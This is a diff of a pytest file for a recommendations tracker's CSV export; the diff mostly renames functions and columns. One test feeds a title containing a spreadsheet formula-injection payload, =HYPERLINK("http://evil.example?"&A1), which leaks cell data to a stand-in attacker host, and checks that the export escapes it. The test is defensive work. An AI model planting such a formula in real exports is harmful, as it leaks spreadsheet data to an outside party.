@@ -10,8 +10,8 @@ import pytest
 from tests.support.small_dataset import said
 from tests.support.view_requests import BEFORE, FILES, LATER, ask, small
 from tracker.publishing import export_tables
-from tracker.publishing.csv_export import csv_file, harmless
-from tracker.publishing.export_columns import coded
+from tracker.publishing.csv_export import escape_formula, render_csv
+from tracker.publishing.export_columns import machine_value
 
 
 def rows(answer):
@@ -27,7 +27,7 @@ def data(tmp_path):
 
 def test_a_row_a_recommendation_with_codes_whatever_the_language(data):
     wanted = ["id,title,status,direction,made,assessed", "themes", "permalink"]
-    assert rows(csv_file(ask(data, "ru", columns=wanted))) == [
+    assert rows(render_csv(ask(data, "ru", columns=wanted))) == [
         ("id", "title", "status", "direction", "made", "assessed", "themes", "permalink"),
         ("x", "Расширить программу", "not-implemented", "backward", "2024-02", "2025-03-04", "health; drug-policy", "https://tracker.example/r/x?lang=ru"),
         ("y", "T", "not-assessed", "", "2024-03-28", "", "", "https://tracker.example/r/y?lang=ru"),
@@ -35,13 +35,16 @@ def test_a_row_a_recommendation_with_codes_whatever_the_language(data):
 
 
 def test_excel_is_told_that_it_is_utf_8_and_rows_end_as_the_standard_says(data):
-    answer = csv_file(ask(data, "ru", columns=["title"]))
+    answer = render_csv(ask(data, "ru", columns=["title"]))
     assert answer.body == "\ufefftitle\r\nРасширить программу\r\nT\r\n".encode()
-    assert (answer.kind, answer.file) == ("text/csv; charset=utf-8; header=present", "recommendations-2026-06-18.csv")
+    assert (answer.media_type, answer.file_name) == (
+        "text/csv; charset=utf-8; header=present",
+        "recommendations-2026-06-18.csv",
+    )
 
 
 def test_without_columns_the_documented_ones_come(data):
-    assert rows(csv_file(ask(data)))[0] == export_tables.DEFAULT
+    assert rows(render_csv(ask(data)))[0] == export_tables.DEFAULT_COLUMNS
 
 
 @pytest.mark.parametrize(
@@ -49,13 +52,13 @@ def test_without_columns_the_documented_ones_come(data):
 )
 def test_a_column_that_is_not_known_is_left_out(data, hostile):
     known = [] if hostile.strip() != "title" else ["title"]
-    assert list(rows(csv_file(ask(data, columns=[hostile])))[0]) == known or list(export_tables.DEFAULT)
-    assert rows(csv_file(ask(data, columns=[hostile, "id,id"])))[0] == (*known, "id")
+    assert list(rows(render_csv(ask(data, columns=[hostile])))[0]) == known or list(export_tables.DEFAULT_COLUMNS)
+    assert rows(render_csv(ask(data, columns=[hostile, "id,id"])))[0] == (*known, "id")
 
 
 def test_every_column_has_a_cell_for_every_recommendation(data):
-    everything = [column.code for column in export_tables.RECOMMENDATIONS]
-    found = rows(csv_file(ask(data, columns=everything)))
+    everything = [column.code for column in export_tables.RECOMMENDATION_COLUMNS]
+    found = rows(render_csv(ask(data, columns=everything)))
     assert [len(row) for row in found] == [len(everything)] * 3
     told = dict(zip(everything, found[1], strict=True))
     assert {name: told[name] for name in ("state_status", "state_date", "claim_gap", "evidence", "evidence_count", "stale", "checked")} == {
@@ -64,9 +67,9 @@ def test_every_column_has_a_cell_for_every_recommendation(data):
 
 
 def test_filters_and_hand_picked_ids_work_on_it(data):
-    assert [row[0] for row in rows(csv_file(ask(data, body=["cescr"], by=["committee"])))] == ["id", "y"]
-    assert [row[0] for row in rows(csv_file(ask(data, id=["x", "no-such"])))] == ["id", "x"]
-    assert [row[0] for row in rows(csv_file(ask(data, q=["programme"])))] == ["id", "x"]
+    assert [row[0] for row in rows(render_csv(ask(data, body=["cescr"], by=["committee"])))] == ["id", "y"]
+    assert [row[0] for row in rows(render_csv(ask(data, id=["x", "no-such"])))] == ["id", "x"]
+    assert [row[0] for row in rows(render_csv(ask(data, q=["programme"])))] == ["id", "x"]
 
 
 @pytest.mark.parametrize(
@@ -94,47 +97,57 @@ def test_filters_and_hand_picked_ids_work_on_it(data):
     ],
 )
 def test_what_a_spreadsheet_would_run_is_only_text(typed, written):
-    assert harmless(typed) == written
+    assert escape_formula(typed) == written
 
 
 def test_a_title_that_is_a_formula_is_harmless_in_the_file(data):
     evil = replace(data.recommendations["x"], title=said('=HYPERLINK("http://evil.example?"&A1)'))
     there = replace(data, recommendations={"x": evil})
-    assert rows(csv_file(ask(there, columns=["title", "claim_gap", "assessed"])))[1] == (
+    assert rows(render_csv(ask(there, columns=["title", "claim_gap", "assessed"])))[1] == (
         "'=HYPERLINK(\"http://evil.example?\"&A1)", "2", "2025-03-04",
     )  # fmt: skip
 
 
 def test_as_of_a_day_what_is_dated_later_is_left_out(data):
-    found = csv_file(ask(data, as_of=date(2025, 3, 3), columns=["id", "status", "evidence", "permalink"]))
+    found = render_csv(ask(data, as_of=date(2025, 3, 3), columns=["id", "status", "evidence", "permalink"]))
     assert rows(found)[1] == ("x", "not-assessed", "law", "https://tracker.example/r/x?lang=en&as_of=2025-03-03")
-    assert found.file == "recommendations-2025-03-03.csv"
-    assert len(rows(csv_file(ask(data, as_of=date(2024, 2, 1))))) == 1
+    assert found.file_name == "recommendations-2025-03-03.csv"
+    assert len(rows(render_csv(ask(data, as_of=date(2024, 2, 1))))) == 1
 
 
 def test_as_recorded_before_a_back_dated_assessment_it_is_not_there(tmp_path):
     after = small(tmp_path, ("r/x", LATER), *FILES[1:])
-    assert rows(csv_file(ask(after, columns=["status", "assessed"])))[1] == ("implemented", "2025-04-01")
-    then = csv_file(ask(after, recorded=BEFORE, columns=["status", "assessed"]))
+    assert rows(render_csv(ask(after, columns=["status", "assessed"])))[1] == ("implemented", "2025-04-01")
+    then = render_csv(ask(after, recorded=BEFORE, columns=["status", "assessed"]))
     assert rows(then)[1] == ("not-implemented", "2025-03-04")
-    assert then.file == "recommendations-2026-06-18-recorded-2026-01-05.csv"
+    assert then.file_name == "recommendations-2026-06-18-recorded-2026-01-05.csv"
 
 
 def test_codes_are_unique_and_the_documented_columns_are_there():
-    for table in (export_tables.RECOMMENDATIONS, export_tables.ASSESSMENTS, export_tables.EVIDENCE):
+    for table in (
+        export_tables.RECOMMENDATION_COLUMNS,
+        export_tables.ASSESSMENT_COLUMNS,
+        export_tables.EVIDENCE_COLUMNS,
+    ):
         codes = [column.code for column in table]
         assert sorted(codes) == sorted(set(codes))
-    assert set(export_tables.DEFAULT) <= {column.code for column in export_tables.RECOMMENDATIONS}
+    assert set(export_tables.DEFAULT_COLUMNS) <= {column.code for column in export_tables.RECOMMENDATION_COLUMNS}
 
 
 def test_no_cell_names_an_editor(data):
-    shown = ask(data).shown
-    cells = [coded(shown, column, r) for column in export_tables.RECOMMENDATIONS for r in data.recommendations.values()]
+    shown = ask(data).context
+    cells = [
+        machine_value(shown, column, r)
+        for column in export_tables.RECOMMENDATION_COLUMNS
+        for r in data.recommendations.values()
+    ]
     cells += [
-        coded(shown, c, (r, a))
-        for c in export_tables.ASSESSMENTS
+        machine_value(shown, c, (r, a))
+        for c in export_tables.ASSESSMENT_COLUMNS
         for r in data.recommendations.values()
         for a in r.assessments
     ]
-    cells += [coded(shown, column, e) for column in export_tables.EVIDENCE for e in data.evidence.values()]
+    cells += [
+        machine_value(shown, column, e) for column in export_tables.EVIDENCE_COLUMNS for e in data.evidence.values()
+    ]
     assert [cell for cell in cells if "editor-" in str(cell)] == []
